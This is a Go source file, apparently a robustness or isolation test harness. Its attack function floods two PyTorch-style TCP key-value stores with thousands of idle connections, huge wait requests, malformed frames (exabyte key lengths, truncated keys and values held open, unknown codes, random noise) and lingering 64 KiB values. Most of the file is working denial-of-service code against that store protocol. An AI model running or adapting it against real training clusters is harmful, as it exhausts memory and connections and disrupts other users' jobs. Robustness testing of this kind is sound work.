package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// The size of the attack on each store, on average over both.
const (
	idle      = 2000   // connections that never send a byte
	waits     = 640    // requests that wait
	waitKeys  = 131071 // keys of one such request
	frames    = 12000
	attackers = 4   // goroutines that send waits and frames
	openHalf  = 200 // truncated frames whose connections stay open
)

// attack is the attacking process. It attacks the stores at two addresses, job and other, for about
// spread seconds, prints a line that begins with "done", and keeps its connections open until stdin
// ends. Each byte read from stdin chooses the store to attack from then on: '1' is the job's.
func attack(job, other, spread string) error {
	seconds, err := strconv.ParseFloat(spread, 64)
	if err != nil {
		return err
	}
	pause := time.Duration(seconds * float64(time.Second) / (2 * frames / attackers))
	addrs := [2]string{other, job}
	var aim atomic.Int32
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		var b [1]byte
		for {
			if _, err := os.Stdin.Read(b[:]); err != nil {
				return
			}
			aim.Store(int32(b[0] & 1))
		}
	}()
	var kept connections
	defer kept.close()
	for range idle {
		for _, addr := range addrs {
			kept.dial(addr)
		}
	}
	var sent [2]atomic.Int32
	var wg sync.WaitGroup
	for a := range attackers {
		wg.Go(func() {
			r := rand.New(rand.NewPCG(uint64(a), 1))
			wait := waitFrame()
			tick := time.NewTicker(max(pause, time.Microsecond))
			defer tick.Stop()
			for i := range 2 * frames / attackers {
				<-tick.C
				at := aim.Load()
				addr := addrs[at]
				sent[at].Add(1)
				if i*waits/frames != (i+1)*waits/frames { // true for 2*waits/attackers of the frames
					if c := kept.dial(addr); c != nil {
						c.SetWriteDeadline(time.Now().Add(10 * time.Second))
						c.Write(wait) // the store may close the connection
					}
				}
				c, err := net.DialTimeout("tcp", addr, time.Second)
				if err != nil {
					continue
				}
				c.SetDeadline(time.Now().Add(time.Second))
				text, isPartial := frame(r, i)
				c.Write(text)
				if isPartial && i%(frames/openHalf) == 0 {
					kept.add(c)
				} else {
					c.Close()
				}
			}
		})
	}
	wg.Wait()
	fmt.Printf("done: %d frames to the job's store, %d to the other; %d of %d connections that were kept are open\n",
		sent[1].Load(), sent[0].Load(), kept.alive(), len(kept.open))
	<-ended
	return nil
}

// connections are the open connections of the attacker. add is safe for concurrent use.
type connections struct {
	mu   sync.Mutex
	open []net.Conn
}

func (k *connections) dial(addr string) net.Conn {
	c, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		return nil
	}
	k.add(c)
	return c
}

func (k *connections) add(c net.Conn) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.open = append(k.open, c)
}

// alive counts the connections that the store has not closed.
func (k *connections) alive() (n int) {
	for _, c := range k.open {
		c.SetReadDeadline(time.Now().Add(100 * time.Microsecond))
		if _, err := c.Read(make([]byte, 1)); err != nil && os.IsTimeout(err) {
			n++
		}
	}
	return n
}

func (k *connections) close() {
	for _, c := range k.open {
		c.Close()
	}
}

// hello is the first request of a client of PyTorch 2.x.
var hello = binary.LittleEndian.AppendUint32([]byte{0}, 0x3C85F7CE)

// Codes of requests.
const (
	codeSet  = 1
	codeWait = 6
)

// waitFrame returns a request that waits for waitKeys empty keys.
func waitFrame() []byte {
	b := append(append([]byte(nil), hello...), codeWait)
	b = binary.LittleEndian.AppendUint64(b, waitKeys)
	return append(b, make([]byte, 8*waitKeys)...)
}

// frame returns the i-th frame of one attacker. isPartial means that the store has to wait for the rest
// of the request.
func frame(r *rand.Rand, i int) (text []byte, isPartial bool) {
	request := func(code byte) []byte { return append(append([]byte(nil), hello...), code) }
	le := binary.LittleEndian
	noise := make([]byte, 1+r.IntN(4096))
	for i := range noise {
		noise[i] = byte(r.Uint32())
	}
	switch i % 8 {
	case 0:
		return noise, false
	case 1: // the length of the key is exabytes
		return le.AppendUint64(request(codeSet), 1<<62), false
	case 2: // a truncated key
		return append(le.AppendUint64(request(codeSet), 5000), noise[:min(len(noise), 4999)]...), true
	case 3: // a truncated value
		return append(le.AppendUint64(append(le.AppendUint64(request(codeSet), 1), 'k'), 8<<20), noise...), true
	case 4: // truncated keys
		return append(le.AppendUint64(request(codeWait), 100000), make([]byte, 8*100)...), true
	case 5: // an unknown code
		return append(request(200), noise...), false
	case 6: // a valid value, which stays in the store
		key := fmt.Sprintf("hostile/%d/%d", r.Uint64(), i)
		b := append(le.AppendUint64(request(codeSet), uint64(len(key))), key...)
		return append(le.AppendUint64(b, 64<<10), make([]byte, 64<<10)...), false
	default:
		return []byte("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"), false
	}
}
